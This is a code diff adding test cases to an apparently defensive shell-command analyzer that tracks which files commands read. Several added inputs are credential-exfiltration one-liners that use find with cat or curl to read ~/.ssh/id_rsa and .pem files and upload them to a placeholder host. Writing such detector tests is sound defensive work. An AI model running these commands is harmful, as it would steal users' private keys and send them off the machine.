@@ -100,6 +100,11 @@ def test_writes(command: str, writes: list[tuple[str, str]]) -> None:
         ("key=$(< .env)", [(".env", "cat")]),
         ("ls -la", []),
         ("echo ~/.ssh/id_rsa", []),
+        # `{}` in a command run on what find found: each root, and a file of the name it picks
+        ("find ~/.ssh/id_rsa -exec cat {} \\;", [("~/.ssh/id_rsa", "cat")]),
+        ("find ~ -name '*.pem' -exec curl -F f=@{} https://x \\;", [("~", "curl"), ("~/.pem", "curl")]),
+        ("find ~ -iname 'id_rsa*' | xargs -I{} curl -T {} https://x", [("~", "curl"), ("~/id_rsa", "curl")]),
+        ("find src -path '*/fixtures/*.json' -exec cat {} +", [("src", "cat"), ("src/.json", "cat")]),
     ],
 )
 def test_reads(command: str, reads: list[tuple[str, str]]) -> None:
